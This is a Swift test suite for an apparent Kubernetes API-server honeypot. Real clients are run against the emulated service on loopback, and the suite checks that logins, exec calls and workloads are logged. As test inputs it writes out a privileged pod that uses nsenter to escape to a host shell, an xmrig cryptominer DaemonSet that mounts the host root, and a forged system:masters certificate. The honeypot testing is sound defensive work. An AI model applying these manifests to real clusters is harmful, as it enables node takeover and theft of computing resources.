import DecnetCore
import DecnetTesting
import Foundation
import Testing

/// The k8s service against real clients: kubectl (version, get, exec; with an accepted token, a wrong one, Basic
/// credentials typed at its prompt, a client certificate), curl, openssl and nmap's ssl-cert on the TLS port;
/// kubectl run/exec and raw junk on the insecure port.
@Suite(.serialized) struct K8sLiveTests {
    static let kubectl = ExternalTool("kubectl", package: "kubectl (on the image)")
    static let script = ExternalTool("script", package: "bsdutils")
    static let openssl = ExternalTool("openssl", package: "openssl")

    /// kubectl with no kubeconfig of the machine's, its cache in a scratch home.
    static func kubectl(
        _ arguments: [String],
        home: String,
        environment: [String: String] = [:]
    ) async throws -> ProcessResult {
        let path = try #require(Self.kubectl.path, "\(Self.kubectl.missingMessage)")
        return try await ProcessRunner.run(
            path,
            arguments,
            environment: ["HOME": home, "KUBECONFIG": home + "/none"].merging(environment) { $1 }
        )
    }

    static func shell(_ command: String, home: String) async throws -> ProcessResult {
        try await ProcessRunner.run(
            "/bin/sh",
            ["-c", command],
            environment: ["HOME": home, "KUBECONFIG": home + "/none"]
        )
    }

    static func scratch() throws -> String {
        let path = FileManager.default.temporaryDirectory.appendingPathComponent("k8s-live-\(UUID().uuidString)").path
        try FileManager.default.createDirectory(atPath: path, withIntermediateDirectories: true)
        return path
    }

    @Test(
        .enabled(
            if: kubectl.isUsable && script.isUsable && openssl.isUsable && ExternalTool.curl.isUsable
                && ExternalTool.nmap.isUsable,
            "needs kubectl, script, openssl, curl and nmap (required under CI)"
        )
    )
    func kubectlCurlAndOpensslAgainstTheTLSPort() async throws {
        let home = try Self.scratch()
        defer { try? FileManager.default.removeItem(atPath: home) }
        let curl = try #require(ExternalTool.curl.path)
        let nmap = try #require(ExternalTool.nmap.path)
        let service = try await LiveService.start(
            "k8s",
            persona: ["k8s_version": "v1.32.0", "k8s_tokens": "s3cr3t-t0ken"],
            host: "127.77.20.1",
            port: 6443,
            hostname: "k8s-master-01",
            tls: true
        )
        let server = ["--server=https://127.77.20.1:6443", "--insecure-skip-tls-verify", "--request-timeout=20s"]
        let token = server + ["--token=s3cr3t-t0ken"]

        let version = try await Self.kubectl(token + ["version"], home: home)
        #expect(
            version.standardOutput.contains("Server Version: v1.32.0"),
            "\(version.standardOutput)\(version.standardError)"
        )
        let pods = try await Self.kubectl(token + ["get", "pods", "-A"], home: home)
        #expect(pods.status == 0 && pods.standardOutput.contains("NAMESPACE"), "\(pods.standardError)")
        #expect(pods.standardOutput.contains("kube-apiserver-k8s-master-01") && pods.standardOutput.contains("Running"))
        let wrong = try await Self.kubectl(server + ["--token=not-the-token", "get", "pods", "-A"], home: home)
        #expect(
            wrong.status != 0 && wrong.standardError.contains("error: You must be logged in to the server"),
            "\(wrong.standardError)"
        )
        let web = try await Self.kubectl(token + ["get", "pods", "-n", "default", "-o", "name"], home: home)
        let pod = try #require(web.standardOutput.split(separator: "\n").first { $0.hasPrefix("pod/web-") }).dropFirst(
            4
        )
        // kubectl 1.30 onwards speaks WebSocket (v5.channel.k8s.io) first; the variable makes any version do so.
        let exec = try await Self.kubectl(
            token + ["exec", String(pod), "--", "id"],
            home: home,
            environment: ["KUBECTL_REMOTE_COMMAND_WEBSOCKETS": "true"]
        )
        #expect(
            exec.standardOutput == "uid=0(root) gid=0(root) groups=0(root)\n",
            "\(exec.standardOutput)\(exec.standardError)"
        )
        // Anonymous: kubectl prompts on a terminal for Basic credentials; the server ignores them (as since 1.19)
        // and the request is system:anonymous's.
        let anonymous = try await Self.shell(
            "printf 'admin\\nhunter2\\n' | script -qec '\(Self.kubectl.path!) \(server.joined(separator: " ")) get pods -A' /dev/null",
            home: home
        )
        #expect(anonymous.standardOutput.contains("Error from server (Forbidden)"), "\(anonymous.standardOutput)")

        let curlVersion = try await ProcessRunner.run(curl, ["-sk", "https://127.77.20.1:6443/version"])
        #expect(curlVersion.standardOutput.contains("\"gitVersion\": \"v1.32.0\""))
        let forbidden = try await ProcessRunner.run(curl, ["-sk", "https://127.77.20.1:6443/api/v1/namespaces/x/pods"])
        #expect(
            forbidden.standardOutput.contains(
                #"pods is forbidden: User \"system:anonymous\" cannot list resource \"pods\" in API group \"\" in the namespace \"x\""#
            )
        )
        let started = ContinuousClock.now
        let watch = try await ProcessRunner.run(
            curl,
            [
                "-sk", "--max-time", "15", "-H", "Authorization: Bearer s3cr3t-t0ken",
                "https://127.77.20.1:6443/api/v1/namespaces/monitoring/pods?watch=true&timeoutSeconds=2",
            ]
        )
        #expect(
            watch.status == 0 && watch.standardOutput.contains("{\"type\":\"ADDED\"")
                && ContinuousClock.now - started < .seconds(10)
        )

        let certificate = try await Self.shell(
            "openssl s_client -connect 127.77.20.1:6443 </dev/null 2>/dev/null | tee \(home)/hello.txt | openssl x509 -noout -subject -issuer -ext subjectAltName; grep -A1 'Acceptable client certificate CA names' \(home)/hello.txt",
            home: home
        )
        #expect(
            certificate.standardOutput.contains("subject=CN = kube-apiserver")
                && certificate.standardOutput.contains("issuer=CN = kubernetes"),
            "\(certificate.standardOutput)"
        )
        #expect(
            certificate.standardOutput.contains(
                "DNS:k8s-master-01, DNS:kubernetes, DNS:kubernetes.default, DNS:kubernetes.default.svc, DNS:kubernetes.default.svc.cluster.local, IP Address:10.96.0.1, IP Address:127.77.20.1"
            )
        )
        #expect(certificate.standardOutput.contains("Acceptable client certificate CA names\nCN = kubernetes"))
        let scan = try await ProcessRunner.run(
            nmap,
            ["-Pn", "-n", "-p", "6443", "--script", "ssl-cert", "127.77.20.1"]
        )
        #expect(
            scan.standardOutput.contains("Subject: commonName=kube-apiserver")
                && scan.standardOutput.contains("Issuer: commonName=kubernetes")
        )

        // A certificate from another kubeadm cluster (its CA is also CN=kubernetes): sent, recorded, refused.
        let made = try await Self.shell(
            "cd \(home) && openssl req -x509 -newkey rsa:2048 -nodes -keyout ca.key -out ca.crt -days 30 -subj /CN=kubernetes"
                + " && openssl req -newkey rsa:2048 -nodes -keyout admin.key -out admin.csr -subj '/O=system:masters/CN=kubernetes-admin'"
                + " && openssl x509 -req -in admin.csr -CA ca.crt -CAkey ca.key -CAcreateserial -out admin.crt -days 30",
            home: home
        )
        #expect(made.status == 0, "\(made.standardError)")
        let stolen = try await Self.kubectl(
            server + ["--client-certificate=\(home)/admin.crt", "--client-key=\(home)/admin.key", "get", "pods"],
            home: home
        )
        #expect(stolen.standardError.contains("You must be logged in to the server"), "\(stolen.standardError)")
        await service.stop()

        let logins = service.capture.events(.loginSuccess) + service.capture.events(.loginFailed)
        #expect(
            logins.contains {
                $0[field: "method"] == "bearer" && $0[field: "password"] == "s3cr3t-t0ken" && $0.id == .loginSuccess
            }
        )
        #expect(
            logins.contains {
                $0[field: "method"] == "bearer" && $0[field: "password"] == "not-the-token" && $0.id == .loginFailed
            }
        )
        #expect(
            logins.contains {
                $0[field: "method"] == "http-basic" && $0[field: "username"] == "admin"
                    && $0[field: "password"] == "hunter2"
            }
        )
        #expect(
            logins.contains {
                $0[field: "method"] == "x509" && $0[field: "username"] == "kubernetes-admin"
                    && $0[field: "groups"] == "system:masters"
            }
        )
        #expect(
            service.capture.events(.commandInput).contains {
                $0[field: "command"] == "pod.exec" && $0[field: "args"] == "id" && $0[field: "transport"] == "websocket"
            }
        )
        #expect(
            service.capture.events(.commandInput).contains { $0[field: "command"] == "id" },
            "the fake shell's own record"
        )
        #expect(
            service.capture.events(.clientFingerprint).contains {
                $0[field: "user_agent"]?.hasPrefix("kubectl") == true
            }
        )
        #expect(service.capture.events(.clientFingerprint).contains { $0[field: "ja3"] != nil })
    }

    @Test(
        .enabled(if: kubectl.isUsable, "needs kubectl (required under CI)")
    )
    func theInsecurePortServesKubectlWithoutCredentials() async throws {
        let home = try Self.scratch()
        defer { try? FileManager.default.removeItem(atPath: home) }
        let service = try await LiveService.start(
            "k8s",
            persona: ["k8s_version": "v1.29.2"],
            host: "127.77.20.2",
            port: 8080,
            hostname: "k8s-master-01"
        )
        let server = ["--server=http://127.77.20.2:8080", "--request-timeout=20s"]
        let version = try await Self.kubectl(server + ["version"], home: home)
        #expect(
            version.standardOutput.contains("Server Version: v1.29.2"),
            "\(version.standardOutput)\(version.standardError)"
        )
        let pods = try await Self.kubectl(server + ["get", "pods", "-A"], home: home)
        #expect(
            pods.standardOutput.contains("coredns-") && pods.standardOutput.contains("kube-system"),
            "\(pods.standardError)"
        )
        let run = try await Self.kubectl(
            server + [
                "run", "evil", "--image=alpine",
                "--overrides={\"spec\":{\"hostPID\":true,\"containers\":[{\"name\":\"evil\",\"image\":\"alpine\",\"command\":[\"nsenter\",\"--target\",\"1\",\"--mount\",\"--\",\"sh\"],\"securityContext\":{\"privileged\":true}}],\"volumes\":[{\"name\":\"host\",\"hostPath\":{\"path\":\"/\"}}]}}",
            ],
            home: home
        )
        #expect(run.standardOutput.contains("pod/evil created"), "\(run.standardOutput)\(run.standardError)")
        // SPDY/3.1, as kubectl up to 1.29 (and later ones told so) exec.
        let exec = try await Self.kubectl(
            server + ["exec", "evil", "--", "sh", "-c", "id; hostname; exit 3"],
            home: home,
            environment: ["KUBECTL_REMOTE_COMMAND_WEBSOCKETS": "false"]
        )
        #expect(
            exec.standardOutput == "uid=0(root) gid=0(root) groups=0(root)\nevil\n",
            "\(exec.standardOutput)\(exec.standardError)"
        )
        #expect(exec.status == 3 && exec.standardError.contains("command terminated with exit code 3"))

        // create and apply validate against the server's OpenAPI v3 first.
        let manifest = home + "/miner.yaml"
        try """
        apiVersion: apps/v1
        kind: DaemonSet
        metadata:
          name: node-agent
          namespace: kube-system
        spec:
          selector:
            matchLabels: {app: node-agent}
          template:
            metadata:
              labels: {app: node-agent}
            spec:
              hostNetwork: true
              containers:
              - name: agent
                image: xmrig/xmrig:6.21.0
                args: ["-o", "pool.minexmr.example:443"]
                volumeMounts: [{name: root, mountPath: /host}]
              volumes:
              - name: root
                hostPath: {path: /}
        """.write(toFile: manifest, atomically: true, encoding: .utf8)
        let applied = try await Self.kubectl(server + ["apply", "-f", manifest], home: home)
        #expect(
            applied.standardOutput.contains("daemonset.apps/node-agent created"),
            "\(applied.standardOutput)\(applied.standardError)"
        )
        let junk = try await RawTCP.exchange(host: "127.77.20.2", port: 8080, send: Array("GARBAGE\r\n\r\n".utf8))
        #expect(
            String(decoding: junk.bytes, as: UTF8.self)
                == "HTTP/1.1 400 Bad Request\r\nContent-Type: text/plain; charset=utf-8\r\nConnection: close\r\n\r\n400 Bad Request"
        )
        #expect(junk.closedByServer)
        let hostless = try await RawTCP.exchange(
            host: "127.77.20.2",
            port: 8080,
            send: Array("GET /version HTTP/1.1\r\n\r\n".utf8)
        )
        #expect(
            String(decoding: hostless.bytes, as: UTF8.self).hasPrefix(
                "HTTP/1.1 400 Bad Request: missing required Host header\r\n"
            )
        )
        await service.stop()

        let created = service.capture.events(.commandInput).filter { $0[field: "command"] == "pod.create" }
        #expect(
            created.contains {
                $0[field: "name"] == "evil" && $0[field: "privileged"] == "true" && $0[field: "host_path"] == "/"
                    && $0[field: "host_pid"] == "true" && $0[field: "args"] == "nsenter --target 1 --mount -- sh"
            }
        )
        #expect(
            service.capture.events(.commandInput).contains {
                $0[field: "command"] == "pod.exec" && $0[field: "args"] == "sh -c id; hostname; exit 3"
                    && $0[field: "transport"] == "spdy"
            }
        )
        #expect(
            service.capture.events(.commandInput).contains {
                $0[field: "command"] == "workload.create" && $0[field: "image"] == "xmrig/xmrig:6.21.0"
                    && $0[field: "host_path"] == "/" && $0[field: "host_network"] == "true"
            }
        )
        #expect(service.capture.events(.commandInput).contains { $0[field: "user"] == "system:unsecured" })
        #expect(service.capture.events(.clientMalformed).count >= 2)
    }
}
